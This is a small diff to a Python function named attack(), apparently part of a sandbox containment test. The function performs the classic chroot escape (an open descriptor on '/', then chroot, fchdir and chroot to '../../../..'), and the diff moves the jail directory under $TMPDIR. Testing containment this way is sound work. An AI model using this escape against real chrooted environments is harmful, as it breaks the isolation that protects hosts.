@@ -7,9 +7,10 @@ import os
 def attack():
     reached = []
     try:
-        os.mkdir("/tmp/jail")
+        jail = os.environ["TMPDIR"] + "/jail"
+        os.mkdir(jail)
         outside = os.open("/", os.O_RDONLY)
-        os.chroot("/tmp/jail")
+        os.chroot(jail)
         reached.append("chroot")
         os.fchdir(outside)
         os.chroot("../../../..")
